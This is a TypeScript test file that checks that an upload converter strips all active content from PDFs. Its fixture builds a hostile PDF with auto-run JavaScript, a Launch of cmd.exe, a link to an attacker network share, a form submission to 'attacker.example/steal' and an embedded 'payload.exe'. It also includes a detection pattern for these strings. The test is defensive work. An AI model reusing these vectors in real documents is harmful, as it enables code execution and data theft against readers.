/**
 * Uploaded PDFs come out with no active content anywhere in their object graph. The hostile file
 * is built here with every way a PDF runs, opens, sends or carries something: /OpenAction
 * JavaScript, document /AA, page /AA, a link whose /Next chain leads to Launch and JavaScript, a
 * GoToR to a network share, GoToE, a form field with /AA JavaScript and a SubmitForm action, a
 * Rendition with a script, an ImportData action, embedded files (name tree and annotation) and
 * XFA. The output is inspected with qpdf --json (every object, reachable or not), not with the
 * code that cleaned it.
 */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import {
  PDFDocument,
  PDFHexString,
  PDFName,
  PDFString,
  StandardFonts,
  type PDFDict,
} from 'pdf-lib';
import { convertToPdf } from '../../src/server/conversion/convert-document';
import { JavascriptDocxConverter, findOnPath } from '../../src/server/conversion/convert-docx';
import { liveWorkers } from '../../src/server/conversion/isolation';
import { readPdf } from '../server/helpers/pdf-text';
import { leftoverProcesses } from '../server/helpers/processes';

const qpdf = findOnPath('qpdf', process.env.PATH ?? '');
const dir = mkdtempSync(path.join(os.tmpdir(), 'active-pdf-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

async function hostilePdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const page = doc.addPage([400, 400]);
  page.drawText('Visible transcript 42', { x: 40, y: 300, size: 14, font });
  const ctx = doc.context;
  const js = (code: string) => ctx.obj({ S: 'JavaScript', JS: PDFString.of(code) });
  const ref = (dict: PDFDict) => ctx.register(dict);
  const embedded = ctx.register(
    ctx.stream('secret attachment body', { Type: 'EmbeddedFile', Subtype: 'text/plain' }),
  );
  const filespec = ctx.obj({
    Type: 'Filespec',
    F: PDFString.of('payload.exe'),
    EF: { F: embedded },
  });
  const filespecRef = ctx.register(filespec);

  // Document level.
  doc.catalog.set(PDFName.of('OpenAction'), ref(js('app.alert("open")')));
  doc.catalog.set(PDFName.of('AA'), ctx.obj({ WC: js('app.alert("close")') }));
  doc.catalog.set(
    PDFName.of('Names'),
    ctx.obj({
      EmbeddedFiles: { Names: [PDFString.of('payload.exe'), filespecRef] },
      JavaScript: { Names: [PDFString.of('init'), ref(js('app.alert("names")'))] },
    }),
  );
  const xfa = ctx.register(ctx.stream('<xdp:xdp><script>app.alert("xfa")</script></xdp:xdp>'));
  // Page level.
  page.node.set(PDFName.of('AA'), ctx.obj({ O: js('app.alert("page open")') }));
  const launch = ctx.obj({
    S: 'Launch',
    F: PDFString.of('cmd.exe'),
    Next: js('app.alert("chained")'),
  });
  const link = ctx.obj({
    Type: 'Annot',
    Subtype: 'Link',
    Rect: [40, 40, 140, 60],
    A: { S: 'GoTo', D: [page.ref, 'Fit'], Next: ref(launch) },
  });
  const share = ctx.obj({
    Type: 'Annot',
    Subtype: 'Link',
    Rect: [40, 70, 140, 90],
    A: { S: 'GoToR', F: PDFString.of('\\\\attacker\\share\\x.pdf'), D: [0, 'Fit'] },
  });
  const goToE = ctx.obj({
    Type: 'Annot',
    Subtype: 'Link',
    Rect: [40, 100, 140, 120],
    A: { S: 'GoToE', T: { R: 'C', N: PDFString.of('payload.exe') } },
  });
  const field = ctx.obj({
    Type: 'Annot',
    Subtype: 'Widget',
    FT: 'Btn',
    T: PDFString.of('submit'),
    Rect: [200, 40, 300, 60],
    AA: { K: js('app.alert("keystroke")'), Fo: js('app.alert("focus")') },
    A: {
      S: 'SubmitForm',
      F: { FS: 'URL', F: PDFString.of('http://attacker.example/steal') },
      Next: { S: 'ImportData', F: PDFString.of('data.fdf') },
    },
  });
  const fieldRef = ctx.register(field);
  const screen = ctx.obj({
    Type: 'Annot',
    Subtype: 'Screen',
    Rect: [200, 100, 300, 160],
    A: { S: 'Rendition', OP: 0, JS: PDFHexString.fromText('app.alert("rendition")') },
  });
  const attachment = ctx.obj({
    Type: 'Annot',
    Subtype: 'FileAttachment',
    Rect: [200, 200, 220, 220],
    FS: filespecRef,
  });
  page.node.set(
    PDFName.of('Annots'),
    ctx.obj([ref(link), ref(share), ref(goToE), fieldRef, ref(screen), ref(attachment)]),
  );
  doc.catalog.set(PDFName.of('AcroForm'), ctx.obj({ Fields: [fieldRef], XFA: xfa }));
  return doc.save({ useObjectStreams: false });
}

const activeKeys = new Set([
  '/JS',
  '/JavaScript',
  '/AA',
  '/OpenAction',
  '/EmbeddedFiles',
  '/EF',
  '/XFA',
  '/AcroForm',
]);
const activeValues = new Set([
  '/JavaScript',
  '/Launch',
  '/GoToR',
  '/GoToE',
  '/Rendition',
  '/SubmitForm',
  '/ImportData',
  '/EmbeddedFile',
  '/FileAttachment',
]);

/** Every active key or value in a PDF's objects, as qpdf --json lists them. */
function activeContent(bytes: Uint8Array, name: string): string[] {
  const file = path.join(dir, name);
  writeFileSync(file, bytes);
  const json = JSON.parse(
    execFileSync(qpdf!, ['--json=2', '--json-key=qpdf', file], { encoding: 'utf8' }),
  ) as unknown;
  const found: string[] = [];
  const walk = (value: unknown, where: string) => {
    if (typeof value === 'string') {
      if (activeValues.has(value) || /app\.alert|cmd\.exe|attacker|payload/.test(value))
        found.push(`${where}: ${value}`);
    } else if (Array.isArray(value)) value.forEach((v, i) => walk(v, `${where}[${i}]`));
    else if (value && typeof value === 'object') {
      for (const [key, v] of Object.entries(value)) {
        if (activeKeys.has(key)) found.push(`${where}: key ${key}`);
        walk(v, `${where}.${key}`);
      }
    }
  };
  walk(json, 'pdf');
  return found;
}

describe.runIf(qpdf)('uploaded PDFs lose all active content', () => {
  it('the hostile fixture does carry every kind (the inspection can fail)', async () => {
    const found = activeContent(await hostilePdf(), 'hostile.pdf').join('\n');
    for (const kind of [
      '/OpenAction',
      '/Launch',
      '/GoToR',
      '/GoToE',
      '/Rendition',
      '/SubmitForm',
      '/ImportData',
      '/XFA',
      '/EF',
      'key /AA',
    ]) {
      expect(found).toContain(kind);
    }
  });

  it('comes out with none of it, and with its visible text', async () => {
    const out = await convertToPdf('pdf', await hostilePdf(), new JavascriptDocxConverter());
    expect(activeContent(out, 'clean.pdf')).toEqual([]);
    const reading = await readPdf(out);
    expect(reading.pages).toBe(1);
    expect(reading.text).toContain('Visible transcript 42');
    expect(Buffer.from(out).toString('latin1')).not.toContain('secret attachment body');
    // The worker process is stopped just after it answers: wait (bounded) for it to be gone.
    for (let i = 0; i < 50 && liveWorkers.size > 0; i++)
      await new Promise((resolve) => setTimeout(resolve, 100));
    expect(liveWorkers.size).toBe(0);
    expect(await leftoverProcesses()).toEqual([]);
  }, 60_000);
});
